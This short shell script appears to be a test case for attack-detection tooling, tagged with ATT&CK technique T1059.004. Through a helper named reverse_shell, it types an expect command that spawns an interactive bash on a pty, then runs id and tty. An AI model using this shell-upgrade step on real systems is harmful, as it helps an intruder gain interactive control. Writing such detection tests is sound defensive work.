# expect spawns bash on a pty.
# ATT&CK: T1059.004, T1059
. ./session.sh
reverse_shell <<'TYPED'
expect -c 'spawn bash; interact'
id
tty
exit
exit
TYPED
